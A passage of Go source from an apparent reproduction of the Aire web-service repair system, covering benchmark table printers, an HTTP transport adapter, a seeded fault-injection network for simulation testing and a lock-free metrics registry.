		doc.GeneratedBy = fmt.Sprintf("go run ./cmd/airebench -table bench5 -dur %s -rps %d -peers %d -clients %d -shards %s -opdelay %s -out BENCH_5.json",
			dur, rps, peers, clients, shardList(shardCounts), opDelay)
		if walOn {
			doc.GeneratedBy += " -wal"
		}
		doc.Scaling = results
	}
	writeJSON(out, doc)
}

// shardList re-renders a shard-count slice as the -shards flag value.
func shardList(counts []int) string {
	parts := make([]string, len(counts))
	for i, n := range counts {
		parts[i] = strconv.Itoa(n)
	}
	return strings.Join(parts, ",")
}

func table3() {
	fmt.Println("== Table 3: kinds of interfaces provided by popular web service APIs ==")
	fmt.Print(harness.FormatAPISurvey())
}

func table4(n, seed int) {
	fmt.Printf("== Table 4: Aire overheads (n=%d requests, %d questions seeded) ==\n", n, seed)
	fmt.Printf("%-8s %14s %14s %10s %12s %12s\n",
		"Workload", "No Aire", "Aire", "Overhead", "Log KB/req", "DB KB/req")
	for _, wl := range []string{"read", "write"} {
		row, err := harness.MeasureOverhead(wl, n, seed)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%-8s %10.0f req/s %10.0f req/s %9.1f%% %12.2f %12.2f\n",
			row.Workload, row.BaseThroughput, row.AireThroughput, row.OverheadPct,
			row.LogKBPerReq, row.DBKBPerReq)
	}
	fmt.Println("(paper: reading 21.58 -> 17.58 req/s (19%), 5.52 KB/req; writing 23.26 -> 16.20 req/s (30%), 8.87+0.37 KB/req)")
}

func table5(users, posts int) {
	fmt.Printf("== Table 5: Aire repair performance (%d users x %d posts + attack) ==\n", users, posts)
	res, err := harness.MeasureRepair(users, posts, core.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%-22s", "")
	for _, r := range res.Rows {
		fmt.Printf(" %14s", r.Service)
	}
	fmt.Println()
	fmt.Printf("%-22s", "Repaired requests")
	for _, r := range res.Rows {
		fmt.Printf(" %7d / %4d", r.RepairedRequests, r.TotalRequests)
	}
	fmt.Println()
	fmt.Printf("%-22s", "Repaired model ops")
	for _, r := range res.Rows {
		fmt.Printf(" %6d / %5d", r.RepairedModelOps, r.TotalModelOps)
	}
	fmt.Println()
	fmt.Printf("%-22s", "Repair messages sent")
	for _, r := range res.Rows {
		fmt.Printf(" %14d", r.MsgsSent)
	}
	fmt.Println()
	fmt.Printf("%-22s", "Local repair time")
	for _, r := range res.Rows {
		fmt.Printf(" %14s", r.RepairTime.Round(1000))
	}
	fmt.Println()
	fmt.Printf("Normal execution time (attack + all traffic): %v\n", res.NormalExecTime)
	fmt.Println("(paper: Askbot 105/2196 requests, 5444/88818 model ops, 1 msg, 84.06s repair vs 177.58s normal)")
}

func sweep(posts int) {
	fmt.Println("== repair-time scaling: Askbot attack, growing user counts ==")
	points, err := harness.SweepRepair([]int{10, 25, 50, 100, 200}, posts)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(harness.FormatSweep(points))
	fmt.Println("(repair cost tracks the affected slice — ~1 question-list view per user — not total log size)")
}

func porting() {
	fmt.Println("== §7.3: server-side porting effort in this reproduction ==")
	fmt.Printf("%-34s %s\n", "Change", "Lines of Go")
	for _, row := range harness.PortingEffort() {
		fmt.Printf("%-34s %d\n", row.What, row.Lines)
	}
	fmt.Println("(paper: authorize policy 55 lines; notify/retry support 26 lines; version trees 44 lines)")
}
