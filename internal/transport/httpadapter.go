package transport

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"

	"aire/internal/obs"
	"aire/internal/wire"
)

// HTTPHeaderFrom carries the caller's claimed service identity across real
// HTTP. On the in-memory bus the fabric vouches for the caller; over plain
// HTTP in the examples we trust this header the way a deployment would trust
// a TLS client certificate. Production use would bind it to mTLS.
const HTTPHeaderFrom = "Aire-From-Service"

// wireHeaderKeys maps the net/http canonical form of every Aire protocol
// header back to its wire spelling. Some wire spellings are not canonical
// (Aire-Notifier-URL arrives as Aire-Notifier-Url), and without this
// mapping every req.Header[wire.HdrNotifierURL] lookup silently misses
// over real HTTP — replace_response propagation then works on the
// in-memory bus but not through the adapter. Built from the wire
// constants so a future non-canonical header cannot reintroduce the bug.
var wireHeaderKeys = func() map[string]string {
	m := map[string]string{}
	for _, h := range wire.AireHeaders {
		m[http.CanonicalHeaderKey(h)] = h
	}
	return m
}()

func wireHeaderKey(k string) string {
	if w, ok := wireHeaderKeys[k]; ok {
		return w
	}
	return k
}

// NewHTTPHandler exposes a wire Handler as an http.Handler, folding query
// string and form body into wire.Request.Form.
func NewHTTPHandler(h Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		req := wire.NewRequest(r.Method, r.URL.Path)
		for k, vs := range r.Header {
			if len(vs) > 0 {
				req.Header[wireHeaderKey(http.CanonicalHeaderKey(k))] = vs[0]
			}
		}
		// ParseForm folds the query string plus (for urlencoded posts) the
		// body into r.Form; an opaque body (e.g. the encoded request inside
		// a repair call) is preserved separately.
		ct := r.Header.Get("Content-Type")
		if err := r.ParseForm(); err == nil {
			for k, vs := range r.Form {
				if len(vs) > 0 {
					req.Form[k] = vs[0]
				}
			}
		}
		if r.Body != nil && !strings.HasPrefix(ct, "application/x-www-form-urlencoded") {
			if body, err := io.ReadAll(r.Body); err == nil && len(body) > 0 {
				req.Body = body
			}
		}
		from := r.Header.Get(HTTPHeaderFrom)
		resp := h.HandleWire(from, req)
		for k, v := range resp.Header {
			w.Header().Set(k, v)
		}
		w.WriteHeader(resp.Status)
		w.Write(resp.Body)
	})
}

// Connection-pooling and timeout defaults for the adapter's HTTP client.
// net/http's DefaultTransport keeps only MaxIdleConnsPerHost=2 idle
// connections per peer, which serializes the pump's fan-out delivery behind
// TCP connection churn; the adapter's defaults are sized for a repair plane
// that fans out batches to many peers concurrently.
const (
	// DefaultHTTPTimeout bounds one delivery attempt end to end.
	DefaultHTTPTimeout = 5 * time.Second
	// DefaultMaxIdleConnsPerHost keeps enough warm connections per peer for
	// every pump worker to deliver to the same peer without a new handshake.
	DefaultMaxIdleConnsPerHost = 64
	// DefaultMaxIdleConns caps the pool across all peers.
	DefaultMaxIdleConns = 256
	// DefaultIdleConnTimeout recycles connections idle longer than this.
	DefaultIdleConnTimeout = 90 * time.Second
)

// HTTPCaller delivers wire requests over real HTTP. It implements the same
// Call contract as Bus for use by the controller's outgoing queues.
//
// Client construction composes rather than overrides: the effective client
// is built once, on first use, from the caller-supplied Client (if any)
// with gaps filled from the knobs below and then the package defaults. A
// caller-supplied Client with its own Transport or Timeout keeps them; a
// bare &http.Client{} gets the pooled transport AND the default timeout
// (previously a caller-supplied client silently dropped both the timeout
// and all pooling). The supplied Client value is never mutated.
type HTTPCaller struct {
	// BaseURLs maps service names to base URLs, e.g. "askbot" ->
	// "http://127.0.0.1:8031".
	BaseURLs map[string]string
	// Client, when non-nil, seeds the effective client; zero fields are
	// filled in from the knobs below. When nil, the adapter builds a pooled
	// default client.
	Client *http.Client
	// Timeout bounds one delivery attempt (DefaultHTTPTimeout if zero).
	// Ignored when the supplied Client already carries its own Timeout.
	Timeout time.Duration
	// MaxIdleConnsPerHost, MaxIdleConns, and IdleConnTimeout tune the
	// pooled transport the adapter builds (package defaults if zero).
	// Ignored when the supplied Client already carries its own Transport.
	MaxIdleConnsPerHost int
	MaxIdleConns        int
	IdleConnTimeout     time.Duration
	// Obs, when non-nil, counts wire calls and errors and observes call
	// latency ("transport.http.calls" / ".errors" / ".call_ns"). Handles
	// resolve once, alongside the client; nil keeps Call uninstrumented.
	Obs *obs.Registry

	clientOnce sync.Once
	client     *http.Client
	obsCalls   *obs.Counter
	obsErrs    *obs.Counter
	obsCallNS  *obs.Histogram
}

// httpClient resolves the effective client exactly once; see the HTTPCaller
// doc comment for the composition rules.
func (c *HTTPCaller) httpClient() *http.Client {
	c.clientOnce.Do(func() {
		var cl http.Client
		if c.Client != nil {
			cl = *c.Client // shallow copy: fill gaps without mutating the caller's client
		}
		if cl.Timeout == 0 {
			cl.Timeout = c.Timeout
			if cl.Timeout == 0 {
				cl.Timeout = DefaultHTTPTimeout
			}
		}
		if cl.Transport == nil {
			t := http.DefaultTransport.(*http.Transport).Clone()
			t.MaxIdleConnsPerHost = c.MaxIdleConnsPerHost
			if t.MaxIdleConnsPerHost == 0 {
				t.MaxIdleConnsPerHost = DefaultMaxIdleConnsPerHost
			}
			t.MaxIdleConns = c.MaxIdleConns
			if t.MaxIdleConns == 0 {
				t.MaxIdleConns = DefaultMaxIdleConns
			}
			t.IdleConnTimeout = c.IdleConnTimeout
			if t.IdleConnTimeout == 0 {
				t.IdleConnTimeout = DefaultIdleConnTimeout
			}
			cl.Transport = t
		}
		c.client = &cl
		c.obsCalls = c.Obs.Counter("transport.http.calls")
		c.obsErrs = c.Obs.Counter("transport.http.errors")
		c.obsCallNS = c.Obs.Histogram("transport.http.call_ns")
	})
	return c.client
}

// Call sends req to the named service over HTTP.
func (c *HTTPCaller) Call(from, to string, req wire.Request) (wire.Response, error) {
	base, ok := c.BaseURLs[to]
	if !ok {
		return wire.Response{}, fmt.Errorf("%w: %s", ErrUnknownService, to)
	}
	form := url.Values{}
	for k, v := range req.Form {
		form.Set(k, v)
	}
	// GET and HEAD carry form values in the query string (ParseForm ignores
	// bodies on those methods); other methods use a form-encoded body
	// unless the request has an opaque payload.
	target := base + req.Path
	var body io.Reader
	bodyIsForm := false
	switch {
	case req.Method == http.MethodGet || req.Method == http.MethodHead:
		if len(form) > 0 {
			target += "?" + form.Encode()
		}
		if len(req.Body) > 0 {
			body = strings.NewReader(string(req.Body))
		}
	case len(req.Body) > 0:
		if len(form) > 0 {
			target += "?" + form.Encode()
		}
		body = strings.NewReader(string(req.Body))
	default:
		body = strings.NewReader(form.Encode())
		bodyIsForm = true
	}
	hreq, err := http.NewRequest(req.Method, target, body)
	if err != nil {
		return wire.Response{}, err
	}
	if bodyIsForm {
		hreq.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range req.Header {
		hreq.Header.Set(k, v)
	}
	if from != "" {
		hreq.Header.Set(HTTPHeaderFrom, from)
	}
	cl := c.httpClient()
	var callStart time.Time
	if c.Obs != nil {
		callStart = time.Now()
	}
	hresp, err := cl.Do(hreq)
	if c.Obs != nil {
		c.obsCallNS.ObserveNS(int64(time.Since(callStart)))
		c.obsCalls.Inc()
		if err != nil {
			c.obsErrs.Inc()
		}
	}
	if err != nil {
		return wire.Response{}, fmt.Errorf("%w: %v", ErrUnavailable, err)
	}
	defer hresp.Body.Close()
	rb, err := io.ReadAll(hresp.Body)
	if err != nil {
		return wire.Response{}, err
	}
	resp := wire.Response{Status: hresp.StatusCode, Header: map[string]string{}, Body: rb}
	for k, vs := range hresp.Header {
		if len(vs) > 0 && strings.HasPrefix(k, "Aire-") {
			resp.Header[wireHeaderKey(k)] = vs[0]
		}
	}
	return resp, nil
}
