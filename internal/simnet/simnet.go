// Package simnet is a deterministic fault-injection fabric for Aire
// simulation testing (FoundationDB-style): it wraps the in-memory transport
// bus and subjects the *repair plane* — every call under /aire/ — to
// seeded message drops, lost responses, duplicate deliveries, delayed and
// reordered deliveries, and network partitions.
//
// The paper's central claim (§3, §7) is that repair propagates correctly
// through an unreliable fabric. simnet turns that claim into a searchable
// seed space: every fault decision comes from a single rand.Rand seeded at
// construction, and one uniform draw is consumed per repair-plane call, so
// a run's entire fault schedule is a pure function of (seed, call
// sequence). Re-running a failing seed reproduces the identical schedule.
//
// Normal application traffic passes through unfaulted: the convergence
// oracle in internal/harness compares a faulted run against a fault-free
// reference re-execution, which is only meaningful when both worlds saw
// the same live workload and only the repair protocol rode the unreliable
// fabric.
package simnet

import (
	"fmt"
	"math/rand"
	"strings"
	"sync"

	"aire/internal/transport"
	"aire/internal/wire"
)

// FaultPlan sets per-call fault probabilities for repair-plane calls. The
// probabilities are cumulative and their sum must be ≤ 1; the remainder is
// the probability of clean delivery.
type FaultPlan struct {
	// Drop loses the call before it reaches the peer: the caller sees a
	// transport error, the peer sees nothing, the message stays queued.
	Drop float64
	// DropResponse delivers the call but loses the response: the caller
	// sees a transport error and will re-deliver a repair the peer already
	// applied — the at-least-once hazard the repair protocol must absorb.
	DropResponse float64
	// Duplicate delivers the call twice, returning the first response; the
	// duplicate's response vanishes.
	Duplicate float64
	// Delay holds the call for a later Tick (the caller sees a transport
	// error now, exactly like a timeout whose request is still sitting in
	// the network). Held calls are delivered in seeded-shuffled order, so
	// Delay is also the reordering fault.
	Delay float64
	// DelayTicks stretches Delay faults across simulated time: each
	// delayed call is held for a seeded 1..DelayTicks Ticks instead of
	// landing at the very next one (0 or 1 keeps the legacy next-Tick
	// behavior, and consumes no extra randomness). Multi-tick delays are
	// what let a copy of a since-superseded repair message land *after*
	// the sender's retries delivered the newer content — the
	// stale-redelivery hazard the wire generations exist for.
	DelayTicks int
	// Lost curses a delivery: the call AND every subsequent call carrying
	// the same wire.HdrDeliveryID is silently dropped for LostTicks Ticks,
	// so the sender's backoff-driven retries cannot recover it — only the
	// anti-entropy path can: calls stamped wire.HdrReoffer (a re-offer the
	// sender issued after the receiver NACKed the sequence gap) pass the
	// curse. This is the fault class that separates "retries eventually
	// get through" from genuine lost-delivery detection.
	Lost float64
	// LostTicks bounds a curse's lifetime in Ticks; 0 curses the delivery
	// for the whole run, which is what the vectors-off teeth check uses to
	// prove convergence stalls without anti-entropy.
	LostTicks int
	// Corrupt delivers the call with one body byte flipped (calls with
	// empty bodies pass clean). The receive path must detect the damage
	// via the carrier checksum (wire.HdrBodySum) and refuse it loudly —
	// silent misapply of a corrupted repair is the hazard.
	Corrupt float64
}

// Sum returns the total fault probability.
func (p FaultPlan) Sum() float64 {
	return p.Drop + p.DropResponse + p.Duplicate + p.Delay + p.Lost + p.Corrupt
}

// Fault class names, as recorded by Net.Counts and Net.Trace.
const (
	FaultDrop         = "drop"
	FaultDropResponse = "drop-response"
	FaultDuplicate    = "duplicate"
	FaultDelay        = "delay"
	FaultPartition    = "partition"
	FaultLost         = "lost"
	FaultCorrupt      = "corrupt"
)

// heldCall is a delayed repair-plane call awaiting Tick delivery.
type heldCall struct {
	from, to string
	req      wire.Request
	// ttl is how many further Ticks the call stays in the network; it is
	// delivered when it reaches zero (and its endpoints are unpartitioned).
	ttl int
}

// Net is a fault-injecting service fabric implementing the controller's
// Caller contract on top of a transport.Bus. Fault decisions are taken
// under an internal lock but deliveries run unlocked, so reentrant calls
// (the notify → fetch_repair handshake) cannot deadlock.
type Net struct {
	bus *transport.Bus

	mu     sync.Mutex
	rng    *rand.Rand
	plan   FaultPlan
	group  map[string]int // partition group per service; nil = healed
	held   []heldCall
	counts map[string]int
	trace  []string
	// tick counts Tick calls; curse expiries are measured against it.
	tick int
	// cursed maps a delivery ID hit by a Lost fault to the tick its curse
	// expires (-1 = never, FaultPlan.LostTicks == 0). While cursed, every
	// call carrying the ID is silently dropped unless it carries
	// wire.HdrReoffer.
	cursed map[string]int
}

// New wraps bus in a fault layer driven by the given seed and plan.
func New(bus *transport.Bus, seed int64, plan FaultPlan) *Net {
	if s := plan.Sum(); s > 1 {
		panic(fmt.Sprintf("simnet: fault probabilities sum to %v > 1", s))
	}
	return &Net{
		bus:    bus,
		rng:    rand.New(rand.NewSource(seed)),
		plan:   plan,
		counts: map[string]int{},
		cursed: map[string]int{},
	}
}

// RepairPath reports whether path belongs to the repair plane (the /aire/
// protocol surface). Only repair-plane calls are faulted.
func RepairPath(path string) bool { return strings.HasPrefix(path, "/aire/") }

// Call delivers req from → to, possibly injecting a fault when the call is
// repair-plane traffic.
func (n *Net) Call(from, to string, req wire.Request) (wire.Response, error) {
	if !RepairPath(req.Path) {
		return n.bus.Call(from, to, req)
	}

	n.mu.Lock()
	if n.partitionedLocked(from, to) {
		n.noteLocked(FaultPartition, from, to, req.Path)
		n.mu.Unlock()
		return wire.Response{}, fmt.Errorf("%w: simnet: %s->%s partitioned", transport.ErrUnavailable, from, to)
	}
	// The roll happens unconditionally — one draw per repair-plane call,
	// cursed or not — so a curse changes outcomes without shifting the rng
	// sequence every later fault decision depends on.
	fault := n.rollLocked()
	if id := req.Header[wire.HdrDeliveryID]; id != "" {
		if fault == FaultLost {
			exp := -1 // whole-run curse
			if n.plan.LostTicks > 0 {
				exp = n.tick + n.plan.LostTicks
			}
			n.cursed[id] = exp
		} else if n.cursedLocked(id) {
			if req.Header[wire.HdrReoffer] != "" {
				// Anti-entropy re-offer: the only traffic that passes the
				// curse. Whatever the roll said happens to it normally.
				delete(n.cursed, id)
			} else {
				fault = FaultLost // a retry of the lost delivery: still lost
			}
		}
	}
	if fault != "" {
		n.noteLocked(fault, from, to, req.Path)
	}
	if fault == FaultDelay {
		ttl := 1
		if n.plan.DelayTicks > 1 {
			ttl = 1 + n.rng.Intn(n.plan.DelayTicks)
		}
		n.held = append(n.held, heldCall{from: from, to: to, req: req.Clone(), ttl: ttl})
	}
	n.mu.Unlock()

	switch fault {
	case FaultDrop, FaultDelay, FaultLost:
		return wire.Response{}, fmt.Errorf("%w: simnet: %s %s->%s %s", transport.ErrUnavailable, fault, from, to, req.Path)
	case FaultDropResponse:
		n.bus.Call(from, to, req) // delivered; the response is lost
		return wire.Response{}, fmt.Errorf("%w: simnet: %s %s->%s %s", transport.ErrUnavailable, fault, from, to, req.Path)
	case FaultDuplicate:
		resp, err := n.bus.Call(from, to, req)
		n.bus.Call(from, to, req.Clone()) // the duplicate; its response vanishes
		return resp, err
	case FaultCorrupt:
		return n.bus.Call(from, to, corruptBody(req))
	default:
		return n.bus.Call(from, to, req)
	}
}

// cursedLocked reports whether a delivery ID's curse is still active.
func (n *Net) cursedLocked(id string) bool {
	exp, ok := n.cursed[id]
	if !ok {
		return false
	}
	if exp >= 0 && n.tick >= exp {
		delete(n.cursed, id)
		return false
	}
	return true
}

// corruptBody flips one body byte (position derived from the content, so
// the damage is deterministic without consuming an rng draw). Calls with
// empty bodies pass through untouched.
func corruptBody(req wire.Request) wire.Request {
	if len(req.Body) == 0 {
		return req
	}
	c := req.Clone()
	sum := 0
	for _, b := range c.Body {
		sum += int(b)
	}
	c.Body[sum%len(c.Body)] ^= 0xFF
	return c
}

// rollLocked consumes exactly one uniform draw and maps it to a fault class
// ("" for clean delivery).
func (n *Net) rollLocked() string {
	p := n.plan
	if p.Sum() == 0 {
		return ""
	}
	r := n.rng.Float64()
	switch {
	case r < p.Drop:
		return FaultDrop
	case r < p.Drop+p.DropResponse:
		return FaultDropResponse
	case r < p.Drop+p.DropResponse+p.Duplicate:
		return FaultDuplicate
	case r < p.Drop+p.DropResponse+p.Duplicate+p.Delay:
		return FaultDelay
	case r < p.Drop+p.DropResponse+p.Duplicate+p.Delay+p.Lost:
		return FaultLost
	case r < p.Sum():
		return FaultCorrupt
	}
	return ""
}

// Tick delivers every due held (delayed) call in seeded-shuffled order and
// returns how many it delivered. The simulation loop calls Tick once per
// step; a delayed message therefore lands after whatever traffic and
// retries the intervening steps produced — the reordering fault. With
// FaultPlan.DelayTicks > 1, a call can stay in the network across several
// Ticks while the sender's retries (and newer, superseding content) go
// through. Held calls whose endpoints are currently partitioned stay held
// without aging: a partition is airtight for repair traffic, including
// traffic delayed before it started, until Heal.
func (n *Net) Tick() int {
	n.mu.Lock()
	n.tick++ // curse lifetimes (FaultPlan.LostTicks) age per Tick
	var batch, keep []heldCall
	for _, h := range n.held {
		if n.partitionedLocked(h.from, h.to) {
			keep = append(keep, h)
			continue
		}
		if h.ttl--; h.ttl > 0 {
			keep = append(keep, h)
			continue
		}
		batch = append(batch, h)
	}
	n.held = keep
	n.rng.Shuffle(len(batch), func(i, j int) { batch[i], batch[j] = batch[j], batch[i] })
	n.mu.Unlock()
	for _, h := range batch {
		n.bus.Call(h.from, h.to, h.req)
	}
	return len(batch)
}

// HeldCount reports how many delayed calls await the next Tick.
func (n *Net) HeldCount() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return len(n.held)
}

// Partition splits the fabric: repair-plane calls between services in
// different groups fail with ErrUnavailable until Heal. Services in no
// group (and external clients) are unaffected.
func (n *Net) Partition(groups ...[]string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.group = map[string]int{}
	for gi, g := range groups {
		for _, svc := range g {
			n.group[svc] = gi
		}
	}
}

// Heal removes any partition.
func (n *Net) Heal() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.group = nil
}

// Partitioned reports whether a partition is active.
func (n *Net) Partitioned() bool {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.group != nil
}

func (n *Net) partitionedLocked(from, to string) bool {
	if n.group == nil {
		return false
	}
	// Partitions are declared over base service names; a shard of a
	// partitioned service ("svc#3") sits on the same side of the cut as
	// its siblings — a network partition severs hosts, not shards.
	gf, okf := n.group[shardBase(from)]
	gt, okt := n.group[shardBase(to)]
	return okf && okt && gf != gt
}

// shardBase strips a core.ShardTopology shard qualifier ("svc#3" ->
// "svc"); identity for unqualified names. Duplicated here rather than
// imported so simnet stays dependency-free of core.
func shardBase(name string) string {
	if i := strings.IndexByte(name, '#'); i >= 0 {
		return name[:i]
	}
	return name
}

func (n *Net) noteLocked(fault, from, to, path string) {
	n.counts[fault]++
	n.trace = append(n.trace, fmt.Sprintf("%s %s->%s %s", fault, from, to, path))
}

// Counts returns how many times each fault class fired.
func (n *Net) Counts() map[string]int {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make(map[string]int, len(n.counts))
	for k, v := range n.counts {
		out[k] = v
	}
	return out
}

// Trace returns the full fault schedule, one line per injected fault, in
// injection order. Two runs with the same seed and workload produce
// identical traces.
func (n *Net) Trace() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return append([]string(nil), n.trace...)
}
