// Package obs is the repair-plane observability subsystem: a
// dependency-free metrics registry (counters, gauges, windowed
// histograms) plus wave tracing (span records correlated by the
// Aire-Trace-Id / Aire-Trace-Hop wire context, §2.3's repair
// propagation made visible).
//
// Design rules, in order of importance:
//
//  1. Disabled must be free. Every handle type is nil-safe: a nil
//     *Counter / *Gauge / *Histogram / *Ring accepts updates and does
//     nothing, with zero allocations. Components cache handles once at
//     construction; when no Registry is configured the handles are nil
//     and the instrumented hot path degenerates to a nil check
//     (asserted by BenchmarkObsOverhead and TestObsDisabledZeroAlloc).
//
//  2. Enabled must stay off the hot-path locks. Handles are resolved
//     under the registry mutex once, at setup; updates are lock-free
//     atomics, and counters stripe across cache-line-padded shards so
//     concurrent pump workers do not collide on one word.
//
//  3. Observation must not perturb the observed schedule. Nothing in
//     this package yields, sleeps, blocks on channels, or consumes IDs
//     from the deterministic generators; under internal/dsched an
//     obs-on run takes byte-identical schedules to an obs-off run
//     (asserted across seeds by TestSchedObsDigestInvariant).
package obs

import (
	"fmt"
	"math/bits"
	"sort"
	"sync"
	"sync/atomic"
	"unsafe"
)

// counterStripes is the per-counter shard count; power of two.
const counterStripes = 8

// pad64 is an int64 padded to a cache line so adjacent stripes do not
// false-share.
type pad64 struct {
	v atomic.Int64
	_ [56]byte
}

// stripeHint picks a shard for the calling goroutine. Goroutine stacks
// live in distinct allocations, so the address of a stack local is a
// cheap per-goroutine discriminator; any distribution is correct
// (Value sums all stripes), this only spreads contention.
func stripeHint() int {
	var x byte
	return int(uintptr(unsafe.Pointer(&x)) >> 10 & (counterStripes - 1))
}

// Counter is a monotonically increasing striped counter.
type Counter struct {
	name    string
	stripes [counterStripes]pad64
}

// Add increments the counter. Nil-safe and allocation-free when nil.
func (c *Counter) Add(n int64) {
	if c == nil {
		return
	}
	c.stripes[stripeHint()].v.Add(n)
}

// Inc is Add(1).
func (c *Counter) Inc() { c.Add(1) }

// Value sums the stripes. Nil-safe (returns 0).
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	var t int64
	for i := range c.stripes {
		t += c.stripes[i].v.Load()
	}
	return t
}

// Gauge is a last-write-wins instantaneous value.
type Gauge struct {
	name string
	v    atomic.Int64
}

// Set records the current value. Nil-safe and allocation-free when nil.
func (g *Gauge) Set(v int64) {
	if g == nil {
		return
	}
	g.v.Store(v)
}

// Value returns the last value set. Nil-safe (returns 0).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// histBuckets is the bucket count: powers of two in microseconds from
// 1µs (index 0 is ≤1µs) up to ~1s, plus one overflow bucket.
const histBuckets = 22

// Histogram is a lock-free latency histogram with exponential
// (power-of-two microsecond) buckets. It accumulates forever; windowed
// views are taken by diffing two Snapshots (see Snapshot.DeltaFrom),
// which is how the bench5 report and the debug handler render
// per-interval rates without resetting live state.
type Histogram struct {
	name    string
	count   atomic.Int64
	sumNS   atomic.Int64
	maxNS   atomic.Int64
	buckets [histBuckets]atomic.Int64
}

// bucketOf maps a duration in nanoseconds to a bucket index.
func bucketOf(ns int64) int {
	if ns < 0 {
		ns = 0
	}
	us := ns / 1000
	// bits.Len64(0)=0 and bits.Len64(1)=1 both land in bucket 0 (≤1µs).
	b := bits.Len64(uint64(us))
	if b > 0 {
		b--
	}
	if b >= histBuckets {
		b = histBuckets - 1
	}
	return b
}

// ObserveNS records one sample, in nanoseconds. Nil-safe and
// allocation-free when nil.
func (h *Histogram) ObserveNS(ns int64) {
	if h == nil {
		return
	}
	if ns < 0 {
		ns = 0
	}
	h.count.Add(1)
	h.sumNS.Add(ns)
	h.buckets[bucketOf(ns)].Add(1)
	for {
		cur := h.maxNS.Load()
		if ns <= cur || h.maxNS.CompareAndSwap(cur, ns) {
			return
		}
	}
}

// HistSnapshot is one histogram's consistent-enough view (each field is
// read atomically; cross-field skew is bounded by in-flight samples).
type HistSnapshot struct {
	Count   int64              `json:"count"`
	SumNS   int64              `json:"sum_ns"`
	MaxNS   int64              `json:"max_ns"`
	Buckets [histBuckets]int64 `json:"buckets"`
}

// QuantileNS estimates the q-quantile (0 < q ≤ 1) in nanoseconds by
// linear interpolation within the containing bucket.
func (s HistSnapshot) QuantileNS(q float64) int64 {
	if s.Count == 0 {
		return 0
	}
	rank := int64(q * float64(s.Count))
	if rank >= s.Count {
		rank = s.Count - 1
	}
	var seen int64
	for i, n := range s.Buckets {
		if seen+n > rank {
			// Bucket i spans (2^(i-1), 2^i] microseconds (bucket 0 is
			// ≤1µs). Interpolate within it.
			lo, hi := int64(0), int64(1000)
			if i > 0 {
				lo = int64(1000) << (i - 1)
				hi = int64(1000) << i
			}
			if n == 0 {
				return hi
			}
			frac := float64(rank-seen) / float64(n)
			return lo + int64(frac*float64(hi-lo))
		}
		seen += n
	}
	return s.MaxNS
}

// DeltaFrom returns the windowed histogram s minus an earlier snapshot
// prev: the samples observed between the two snapshots.
func (s HistSnapshot) DeltaFrom(prev HistSnapshot) HistSnapshot {
	d := HistSnapshot{
		Count: s.Count - prev.Count,
		SumNS: s.SumNS - prev.SumNS,
		MaxNS: s.MaxNS, // max is cumulative; the window max is not tracked
	}
	for i := range s.Buckets {
		d.Buckets[i] = s.Buckets[i] - prev.Buckets[i]
	}
	return d
}

func (h *Histogram) snapshot() HistSnapshot {
	s := HistSnapshot{
		Count: h.count.Load(),
		SumNS: h.sumNS.Load(),
		MaxNS: h.maxNS.Load(),
	}
	for i := range h.buckets {
		s.Buckets[i] = h.buckets[i].Load()
	}
	return s
}

// Snapshot is a point-in-time copy of every registered metric, with
// deterministic (sorted) iteration order for tests and exposition.
type Snapshot struct {
	Counters   map[string]int64        `json:"counters"`
	Gauges     map[string]int64        `json:"gauges"`
	Histograms map[string]HistSnapshot `json:"histograms"`
}

// Names returns the sorted metric names of one kind, for deterministic
// rendering.
func sortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// Registry is the root of the metrics tree. The zero value is not
// usable; call New. A nil *Registry is the disabled registry: every
// handle accessor returns a nil handle and every nil handle is a no-op.
type Registry struct {
	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
	ring       *Ring
}

// New builds an enabled registry whose span ring holds up to ringCap
// spans (≤0 picks DefaultRingCap).
func New(ringCap int) *Registry {
	if ringCap <= 0 {
		ringCap = DefaultRingCap
	}
	return &Registry{
		counters:   map[string]*Counter{},
		gauges:     map[string]*Gauge{},
		histograms: map[string]*Histogram{},
		ring:       newRing(ringCap),
	}
}

// Counter returns (creating if needed) the named counter. Nil registry
// returns a nil (no-op) handle. Resolve once at setup, not per update.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{name: name}
		r.counters[name] = c
	}
	return c
}

// Gauge returns (creating if needed) the named gauge; nil-safe.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{name: name}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns (creating if needed) the named histogram; nil-safe.
func (r *Registry) Histogram(name string) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.histograms[name]
	if !ok {
		h = &Histogram{name: name}
		r.histograms[name] = h
	}
	return h
}

// Ring returns the registry's span ring; nil-safe (nil registry → nil
// ring → Record is a no-op).
func (r *Registry) Ring() *Ring {
	if r == nil {
		return nil
	}
	return r.ring
}

// Snapshot copies every metric. Safe to call concurrently with updates;
// nil-safe (returns empty maps).
func (r *Registry) Snapshot() Snapshot {
	s := Snapshot{
		Counters:   map[string]int64{},
		Gauges:     map[string]int64{},
		Histograms: map[string]HistSnapshot{},
	}
	if r == nil {
		return s
	}
	r.mu.Lock()
	counters := make([]*Counter, 0, len(r.counters))
	for _, c := range r.counters {
		counters = append(counters, c)
	}
